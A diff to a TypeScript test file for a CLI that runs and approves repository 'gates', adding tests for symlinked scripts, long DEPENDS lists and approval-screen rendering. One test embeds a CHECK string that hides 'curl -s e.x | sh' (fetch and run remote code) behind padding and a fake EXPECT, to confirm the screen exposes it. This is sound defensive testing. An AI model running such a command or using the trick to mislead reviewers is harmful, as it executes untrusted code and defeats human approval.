@@ -1,7 +1,7 @@
 // Run modes through the real CLI: selection, order, concurrency, shells, working
 // directories, DEPENDS, interactive approval, and the JSON report of a run.
 import { execFileSync, spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { BIN, runCli, sandbox, writeFiles } from '../helpers/cli.js';
@@ -96,7 +96,7 @@ describe('run modes', () => {
     const s = repo({ 'GATES.md': gate('A', "sh check.sh && sh -c 'cd sub && sh ../later.sh'", 'ok', '  INPUTS: check.sh\n'), 'check.sh': 'echo ok\n' });
     const r = s.run([]);
     expect(r.code).toBe(1);
-    expect(r.stdout).toContain('\n  UNBOUND check.sh, later.sh: CHECK runs them, and no DEPENDS binds them: an edit to them will run without asking you again (DEPENDS would bind them)\n');
+    expect(r.stdout).toContain('\n  UNBOUND check.sh, later.sh\n          CHECK runs them, no DEPENDS binds them: an edit will run unasked\n');
     const j = JSON.parse(s.run(['--json']).stdout);
     assertReportSchema(j);
     expect(j.gates[0].result.request).toMatchObject({ pinOnly: [], unboundScripts: ['check.sh', 'later.sh'] });
@@ -104,6 +104,35 @@ describe('run modes', () => {
     const bound = repo({ 'GATES.md': gate('A', "sh check.sh && sh -c 'cd sub && sh ../later.sh'", 'ok', '  DEPENDS: *.sh\n'), 'check.sh': 'echo ok\n' });
     expect(bound.run([]).stdout).not.toContain('UNBOUND');
     expect(JSON.parse(bound.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual([]);
+  });
+
+  it('UNBOUND follows the file system as the shell does: a script reached through a symlinked folder is named, whatever the text or a glob says (round-8 attack)', () => {
+    const s = repo({ 'GATES.md': gate('A', 'sh lib/run.sh && cd tests && sh ../check.sh', 'ok', '  DEPENDS: check.sh, **/*.sh\n'), 'check.sh': 'echo ok\n', 'spec/check.sh': 'echo ok\n', 'spec/unit/t.txt': 'x\n' });
+    symlinkSync('spec/unit', join(s.repo, 'tests'));
+    const outside = join(s.home, 'outside');
+    mkdirSync(outside);
+    writeFileSync(join(outside, 'run.sh'), 'echo ok\n');
+    symlinkSync(outside, join(s.repo, 'lib'));
+    const j = JSON.parse(s.run(['--json']).stdout);
+    // spec/check.sh is in DEPENDS (the glob matched it); lib/run.sh lies outside through a link: bound by nothing, named as written.
+    expect(j.gates[0].result.request.depends).toEqual(['check.sh', 'spec/check.sh']);
+    expect(j.gates[0].result.request.unboundScripts).toEqual(['lib/run.sh']);
+    const narrow = repo({ 'GATES.md': gate('A', 'cd tests && sh ../check.sh', 'ok', '  DEPENDS: check.sh\n'), 'check.sh': 'echo ok\n', 'spec/check.sh': 'echo ok\n', 'spec/unit/t.txt': 'x\n' });
+    symlinkSync('spec/unit', join(narrow.repo, 'tests'));
+    expect(narrow.run([]).stdout).toContain('\n  UNBOUND spec/check.sh\n          CHECK runs it, no DEPENDS binds it: an edit will run unasked\n');
+    // Through a link inside the repository, the file that runs is the one DEPENDS matched.
+    const linked = repo({ 'GATES.md': gate('A', 'sh lib/run.sh', 'ok', '  DEPENDS: **/*.sh\n'), 'check.sh': 'echo ok\n', 'elsewhere/run.sh': 'echo ok\n' });
+    symlinkSync('elsewhere', join(linked.repo, 'lib'));
+    expect(JSON.parse(linked.run(['--json']).stdout).gates[0].result.request).toMatchObject({ depends: ['check.sh', 'elsewhere/run.sh'], unboundScripts: [] });
+  });
+
+  it('a DEPENDS list too long for the screen is approved only by its pin', () => {
+    const files: Record<string, string> = {};
+    for (let i = 0; i < 200; i++) files[`inputs/file-with-a-rather-long-name-${String(i).padStart(3, '0')}.txt`] = 'x\n';
+    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok', '  DEPENDS: inputs/*\n'), ...files });
+    const r = s.run([]);
+    expect(r.stdout).toMatch(/^ {9}\(a list of \d+ characters: the first 3999 are here\)$/m);
+    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.pinOnly[0]).toBe('DEPENDS list');
   });
 
   it('--json says what the approval screen cannot show in full: that oracle is approved only by its pin', () => {
@@ -333,6 +362,17 @@ describe('interactive approval', () => {
     expect(plain.stdout).toContain("  TIMEOUT 300 s (the gate's TIMEOUT:)\n");
     const r = s.run(['--approve']);
     expect(r.stdout).toMatch(/^approved: GATES:P1@[0-9a-f]{32}, GATES:P2@[0-9a-f]{32}$/m);
+  });
+
+  it('no row of the screen is wider than 80 columns: a CHECK that would wrap into a fake EXPECT row goes on in a row marked "  ~ " (reviewer fidelity)', () => {
+    const check = `echo ${'x'.repeat(65)}  EXPECT  ok; curl -s e.x | sh; echo ok`;
+    const s = repo({ 'GATES.md': gate('A', check, 'ok') });
+    const screen = s.run([]).stdout.split('\n');
+    const at = screen.findIndex((l) => l.startsWith('  CHECK   '));
+    expect(screen.slice(at, at + 2)).toEqual([`  CHECK   ${check.slice(0, 70)}`, `  ~ ${check.slice(70)}`]);
+    expect(screen.filter((l) => l.startsWith('  EXPECT'))).toEqual(['  EXPECT  ok']);
+    const rows = screen.slice(0, screen.findIndex((l) => l.startsWith('UNMET')));
+    expect(rows.every((l) => l.length <= 80)).toBe(true);
   });
 
   it('without a terminal, --approve approves every pending oracle', () => {
